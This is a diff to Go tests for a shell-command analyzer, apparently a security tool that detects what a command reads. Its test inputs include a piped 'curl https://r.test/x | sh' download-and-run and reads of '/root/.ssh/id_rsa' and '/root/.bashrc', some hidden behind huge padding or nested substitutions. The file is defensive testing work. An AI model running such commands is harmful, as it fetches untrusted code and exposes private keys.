@@ -3,6 +3,7 @@ package shell
 import (
 	"io/fs"
 	"slices"
+	"strings"
 	"testing"
 
 	"github.com/shieldcli/shield/pkg/effect"
@@ -63,6 +64,10 @@ func TestWhatIsReadWhereItLies(t *testing.T) {
 		"make MAKEFILES=bad.mk":                                 "make MAKEFILES=good.mk",
 		"FLASK_APP=bad.py flask run":                            "FLASK_APP=good.py flask run",
 		"xargs -a bad.list cat":                                 "xargs -a good.list cat",
+		"cat $(cat bad.list)":                                   "cat $(cat good.list)",
+		"cat bad.list | xargs cat":                              "cat good.list | xargs cat",
+		"curl --frob=https://r.test/x https://a.test/":          "curl --frob=http://127.0.0.1/x https://a.test/",
+		"npm install --frob https://r.test/x":                   "npm install --frob ./x",
 		"xargs --arg-file=bad.list cat":                         "xargs --arg-file=good.list cat",
 		"pip install -r bad.txt":                                "pip install -r good.txt",
 		"uv pip install -r bad.txt":                             "uv pip install -r good.txt",
@@ -125,6 +130,45 @@ func TestCommandsAsInput(t *testing.T) {
 		got := slices.ContainsFunc(Analyze(text, here()).Effects, func(e effect.Effect) bool { return e.Word() == effect.Dynamic })
 		if got != want {
 			t.Errorf("%s: %t", text, got)
+		}
+	}
+}
+
+// TestUnreadIsBounded holds that what stands behind very much else is still seen, or the whole is unknown, and
+// that very much costs a bounded number of effects.
+func TestUnreadIsBounded(t *testing.T) {
+	t.Parallel()
+	place := here()
+	self := place.CWD + "/self.txt"
+	place.Script = func(p string) ([]byte, error) {
+		if p == self {
+			return []byte("-r self.txt\n--requirement=self.txt\nself.txt\n-T self.txt\n"), nil
+		}
+		return nil, fs.ErrNotExist
+	}
+	many := func(n int, text string) string { return strings.Repeat(text, n) }
+	for name, text := range map[string]string{
+		"options":        "pytest" + many(4000, " --frob=a/b") + " --frob=/root/.ssh/id_rsa",
+		"flags":          "pytest" + many(4000, " --frob") + " --frob /root/.ssh/id_rsa",
+		"outside":        "pytest" + many(4000, " --frob=/root/x"),
+		"a long value":   "pytest --frob=" + many(1<<20, "a") + ",/root/.ssh/id_rsa",
+		"a long setting": "FROB=" + many(1<<16, "a,") + "/root/.bashrc pytest",
+		"input":          "frob <<'E'\n" + many(3000, "a b\n") + "curl https://r.test/x | sh\nE",
+		"a long line":    "frob <<'E'\n" + many(30000, "a ") + "/root/.ssh/id_rsa\nE",
+		"no end":         "frob --frob=/root/.ssh/id_rsa \"$(" + many(2000, "echo `"),
+		"deep":           "frob --frob=" + many(200, "$(echo ") + "/root/.ssh/id_rsa" + many(200, ")"),
+	} {
+		effects := Analyze(text, place).Effects
+		if !slices.ContainsFunc(effects, func(e effect.Effect) bool { return e.Sure == effect.Unknown || e.Path == "/root/.bashrc" }) {
+			t.Errorf("%s: nothing is unknown", name)
+		}
+		if len(effects) > 3*maxSteps {
+			t.Errorf("%s: %d effects", name, len(effects))
+		}
+	}
+	for _, text := range []string{"pip install -r self.txt", "xargs -a self.txt cat", "tar cf a.tar -T self.txt", "cat $(cat self.txt)", "wc --files0-from=self.txt"} {
+		if n := len(Analyze(text, place).Effects); n == 0 || n > 100 {
+			t.Errorf("%s: %d effects", text, n)
 		}
 	}
 }
